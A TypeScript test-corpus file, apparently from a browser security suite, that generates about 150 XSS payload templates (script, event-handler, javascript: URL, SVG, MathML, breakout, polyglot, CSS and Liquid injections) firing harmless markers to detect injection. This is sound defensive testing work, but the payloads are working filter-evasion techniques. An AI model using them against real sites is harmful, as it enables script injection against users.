/**
 * The hostile-input corpus of the browser security suite: markup, URLs, breakouts and Liquid written for Herald's
 * fields. Every payload carries its own id and, when it runs, does one of three observable things:
 * - calls the hook `__heraldXss(id)` that the walker installs in every frame,
 * - opens a dialog whose message is the id (`alert(id)`),
 * - loads `http://xss-marker.invalid/x/<id>` (script ran) or `http://xss-marker.invalid/<id>` (markup loaded a
 *   resource: an image, a style sheet, a frame, a refresh).
 * A finding therefore names the payload that caused it.
 */

export const markerHost = 'xss-marker.invalid';

export interface Payload {
  id: number;
  /** The family of the template (script, handler, url, svg, mathml, broken, breakout, template, css, srcdoc, meta, polyglot, liquid). */
  family: string;
  text: string;
}

/** What a payload does when it runs, by the instance of its template: the hook, a dialog, or a request. */
const actions = [
  (id: number) => `__heraldXss(${id})`,
  (id: number) => `alert(${id})`,
  // No spaces: the action must survive an unquoted attribute value.
  (id: number) => `fetch(\`http://${markerHost}/x/${id}\`)`,
] as const;

/**
 * Templates: {A} is the action, {I} the id, {U} a marker URL for markup that loads a resource, {B} the action in
 * base64 (for atob). Each template is instantiated twice with different actions and ids.
 */
const templates: Array<[family: string, template: string]> = [
  // Script elements.
  ['script', '<script>{A}</script>'],
  ['script', '<ScRiPt >{A}</sCrIpT>'],
  ['script', '<script src="{U}.js"></script>'],
  ['script', '</title><script>{A}</script>'],
  ['script', '</textarea><script>{A}</script>'],
  ['script', '</style></script><script>{A}</script>'],
  ['script', '<script type="module">{A}</script>'],
  ['script', '<script>eval(atob("{B}"))</script>'],
  ['script', '<noscript></noscript><script>{A}//</script>'],
  ['script', '<script>/*</script><script>*/{A}</script>'],
  // Event handlers on many elements.
  ['handler', '<img src=x onerror={A}>'],
  ['handler', '<img src="x" onerror="{A}">'],
  ['handler', '<svg onload={A}>'],
  ['handler', '<body onload={A}>'],
  ['handler', '<body onpageshow={A}>'],
  ['handler', '<iframe onload={A}></iframe>'],
  ['handler', '<input autofocus onfocus={A}>'],
  ['handler', '<select autofocus onfocus={A}></select>'],
  ['handler', '<textarea autofocus onfocus={A}></textarea>'],
  ['handler', '<details open ontoggle={A}>x</details>'],
  ['handler', '<video><source onerror={A}></video>'],
  ['handler', '<audio src=x onerror={A}></audio>'],
  ['handler', '<video src=x onerror={A}></video>'],
  ['handler', '<object data=x onerror={A}></object>'],
  ['handler', '<link rel=stylesheet href=x onerror={A}>'],
  ['handler', '<style onload={A}></style>'],
  ['handler', '<marquee onstart={A}>x</marquee>'],
  ['handler', '<div onmouseover={A} style="position:fixed;inset:0;z-index:99999">x</div>'],
  ['handler', '<a tabindex=1 autofocus onfocus={A}>x</a>'],
  ['handler', '<button autofocus onfocus={A}>x</button>'],
  ['handler', '<img src=x:x onerror={A}>'],
  ['handler', '<image src=x onerror={A}>'],
  ['handler', '<img srcset=x onerror={A}>'],
  ['handler', '<input type=image src=x onerror={A}>'],
  ['handler', '<p contenteditable autofocus onfocus={A}>x</p>'],
  ['handler', '<div tabindex=0 autofocus onfocusin={A}>x</div>'],
  ['handler', '<style>@keyframes h{}</style><b style="animation-name:h" onanimationstart={A}>x</b>'],
  ['handler', '<x onclick={A} onpointerover={A} style=display:block>x</x>'],
  // javascript:, data: and vbscript: URLs in href, src, action and formaction.
  ['url', '<a href="javascript:{A}">link</a>'],
  ['url', '<a href="JaVaScRiPt:{A}">link</a>'],
  ['url', '<a href="java&#x09;script:{A}">link</a>'],
  ['url', '<a href="&#106;&#97;vascript:{A}">link</a>'],
  ['url', '<a href=" javascript:{A}">link</a>'],
  ['url', '<a href="vbscript:msgbox({I})">link</a>'],
  ['url', '<a href="data:text/html,<script>{A}</script>">link</a>'],
  ['url', '<iframe src="javascript:{A}"></iframe>'],
  ['url', '<iframe src="data:text/html,<img src={U}>"></iframe>'],
  ['url', '<object data="javascript:{A}"></object>'],
  ['url', '<embed src="javascript:{A}">'],
  ['url', '<form action="javascript:{A}"><input type=submit></form>'],
  ['url', '<form><button formaction="javascript:{A}">x</button></form>'],
  ['url', '<img src="javascript:{A}">'],
  ['url', '<base href="{U}/"><script src=b.js></script>'],
  ['url', 'javascript:{A}'],
  ['url', 'JAVASCRIPT:{A}//'],
  ['url', 'data:text/html,<script>{A}</script>'],
  ['url', 'vbscript:msgbox({I})'],
  // SVG.
  ['svg', '<svg><script>{A}</script></svg>'],
  ['svg', '<svg><animate onbegin={A} attributeName=x dur=1s>'],
  ['svg', '<svg><set onbegin={A} attributeName=x to=1>'],
  ['svg', '<svg><image href=x onerror={A}>'],
  ['svg', '<svg><foreignObject><img src=x onerror={A}></foreignObject></svg>'],
  ['svg', '<svg/onload={A}>'],
  ['svg', '<svg><a xlink:href="javascript:{A}"><text y=20>x</text></a></svg>'],
  ['svg', '<svg><a href="javascript:{A}"><rect width=99 height=99 /></a></svg>'],
  ['svg', '<svg><title><img src=x onerror={A}></title></svg>'],
  ['svg', '<svg><desc><![CDATA[</desc><script>{A}</script>]]></svg>'],
  // MathML.
  ['mathml', '<math><mi xlink:href="javascript:{A}">x</mi></math>'],
  ['mathml', '<math><maction actiontype=statusline xlink:href="javascript:{A}">x</maction></math>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror={A}>'],
  ['mathml', '<math><style><img src=x onerror={A}></style></math>'],
  ['mathml', '<math href="javascript:{A}">x</math>'],
  ['mathml', '<math><annotation-xml encoding="text/html"><img src=x onerror={A}></annotation-xml></math>'],
  // Broken and nested markup.
  ['broken', '<<script>{A}//<</script>'],
  ['broken', '<img src=x onerror={A}//'],
  ['broken', '<img/src/onerror={A}>'],
  ['broken', '<noscript><p title="</noscript><img src=x onerror={A}>">'],
  ['broken', '<svg></p><style><a id="</style><img src=1 onerror={A}>">'],
  ['broken', '<!--<img src="--><img src=x onerror={A}//>'],
  ['broken', '<p <img src=x onerror={A}>'],
  ['broken', '<title><img src=x onerror={A}></title>'],
  ['broken', '<![CDATA[><img src=x onerror={A}>]]>'],
  ['broken', '<scr<script>ipt>{A}</scr</script>ipt>'],
  ['broken', '<iframe/src="javascript:{A}">'],
  ['broken', '<form><math><mtext></form><form><mglyph><style></math><img src onerror={A}>'],
  ['broken', '</xmp><img src=x onerror={A}>'],
  ['broken', '<listing>&lt;img src=x onerror={A}&gt;</listing>'],
  ['broken', '<noembed><img title="</noembed><img src=x onerror={A}>">'],
  ['broken', '<select><template><img src=x onerror={A}></template></select>'],
  ['broken', '<object data="data:text/html,<img src={U}>"></object>'],
  // Attribute breakouts.
  ['breakout', '" onmouseover="{A}" x="'],
  ['breakout', "' onfocus='{A}' autofocus x='"],
  ['breakout', '"><img src=x onerror={A}>'],
  ['breakout', "'><img src=x onerror={A}>"],
  ['breakout', '" autofocus onfocus="{A}" x="'],
  ['breakout', '"><svg onload={A}>'],
  ['breakout', 'x" style="background:url({U})" y="'],
  ['breakout', '"/><script>{A}</script>'],
  ['breakout', '"onerror="{A}'],
  ['breakout', '`><img src=x onerror={A}>'],
  // Template-literal, JSON and template-engine breakouts.
  ['template', '${{A}}'],
  ['template', '`;{A};`'],
  ['template', "'-{A}-'"],
  ['template', '"-{A}-"'],
  ['template', '</script><script>{A}</script>'],
  ['template', '\\u003cimg src=x onerror={A}\\u003e'],
  ['template', '{"a":"</script><img src=x onerror={A}>"}'],
  ['template', '\\";{A};//'],
  ['template', '{{constructor.constructor("{A}")()}}'],
  ['template', '<%= {A} %>#{{A}}'],
  ['template', '{"__proto__":{"innerHTML":"<img src=x onerror={A}>"}}'],
  ['template', '--><script>{A}</script><!--'],
  // CSS.
  ['css', '<div style="width:expression({A})">x</div>'],
  ['css', '<div style="background:url({U})">x</div>'],
  ['css', "<style>@import '{U}';</style>"],
  ['css', '<style>body{background:url({U})}</style>'],
  ['css', '<link rel=stylesheet href={U}>'],
  ['css', 'red;background:url({U})'],
  ['css', '<style>*{x:expression({A})}</style>'],
  ['css', '</style><img src=x onerror={A}>'],
  // iframe srcdoc.
  ['srcdoc', '<iframe srcdoc="<script>{A}</script>"></iframe>'],
  ['srcdoc', '<iframe srcdoc="&lt;img src=x onerror={A}&gt;"></iframe>'],
  ['srcdoc', '<iframe srcdoc="<svg onload={A}>"></iframe>'],
  // Meta refresh.
  ['meta', '<meta http-equiv="refresh" content="0;{U}">'],
  ['meta', '<meta http-equiv=refresh content="0;url=javascript:{A}">'],
  ['meta', '<meta content="0;url=data:text/html,<img src={U}>" http-equiv=refresh>'],
  // Polyglots.
  [
    'polyglot',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={A} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={A}//>\\x3e',
  ],
  ['polyglot', '\'"--></style></script><svg onload={A}>'],
  ['polyglot', '"\'><img src=x onerror={A}><"\''],
  ['polyglot', '--></title></style></textarea></script><svg/onload={A}>'],
  // Liquid that emits HTML (in emails, subjects, merge-tag fallbacks, anywhere Liquid is rendered).
  ['liquid', "{{ '<img src=x onerror={A}>' }}"],
  ['liquid', '{{ "<script>{A}</script>" }}'],
  ['liquid', "{{ 'x' | prepend: '<svg onload={A}>' }}"],
  ['liquid', "{{ 'x' | append: '<img src=x onerror={A}>' }}"],
  ['liquid', '{% raw %}<img src=x onerror={A}>{% endraw %}'],
  ['liquid', "{{ person.firstName | default: '<img src=x onerror={A}>' }}"],
  ['liquid', '{% capture c %}<svg onload={A}>{% endcapture %}{{ c }}'],
  ['liquid', "{% assign s = '<img src=x onerror={A}>' %}{{ s }}"],
  ['liquid', "{{ '&lt;img src=x onerror={A}&gt;' | replace: '&lt;', '<' | replace: '&gt;', '>' }}"],
  ['liquid', "{{ '<scr' | append: 'ipt>{A}</scr' | append: 'ipt>' }}"],
  ['liquid', '{% if true %}<img src=x onerror={A}>{% endif %}'],
  ['liquid', '{{ "<svg/onload=" | append: "{A}>" }}'],
  ['liquid', "{{ ' <img src=x onerror={A}> ' | strip }}"],
  ['liquid', '{% for i in (1..1) %}<script>{A}</script>{% endfor %}'],
];

function instantiate(template: string, id: number, action: string): string {
  return template
    .replaceAll('{A}', action)
    .replaceAll('{B}', Buffer.from(action).toString('base64'))
    .replaceAll('{U}', `http://${markerHost}/${id}`)
    .replaceAll('{I}', String(id));
}

/** Builds the corpus: every template twice, ids from 1, the actions in turn (a different one in each round). */
function buildCorpus(): Payload[] {
  const corpus: Payload[] = [];
  for (let round = 0; round < 2; round++) {
    for (const [family, template] of templates) {
      const id = corpus.length + 1;
      // The second round shifts the action, so each template is tried with two of the three.
      corpus.push({
        id,
        family,
        text: instantiate(template, id, actions[(id + round) % actions.length]!(id)),
      });
    }
  }
  return corpus;
}

export const corpus: Payload[] = buildCorpus();

/** The payloads that fit a field of at most `max` characters. */
export function fitting(max: number): Payload[] {
  return corpus.filter((payload) => payload.text.length <= max);
}

/** Payload `index` (wrapping around) among those that fit in `max` characters: spreads the corpus over many fields. */
export function pick(index: number, max = 200): Payload {
  const fit = fitting(max);
  return fit[((index % fit.length) + fit.length) % fit.length]!;
}

/** The id of the payload a marker-host URL names (`/x/12` or `/12`), or null. */
export function idFromMarkerUrl(url: string): number | null {
  const match = /^https?:\/\/xss-marker\.invalid\/(?:x\/)?(\d+)/.exec(url);
  return match ? Number(match[1]) : null;
}

/** Whether a marker-host request comes from a payload's script (`/x/<id>`) rather than from markup. */
export function isScriptMarker(url: string): boolean {
  return /^https?:\/\/xss-marker\.invalid\/x\//.test(url);
}
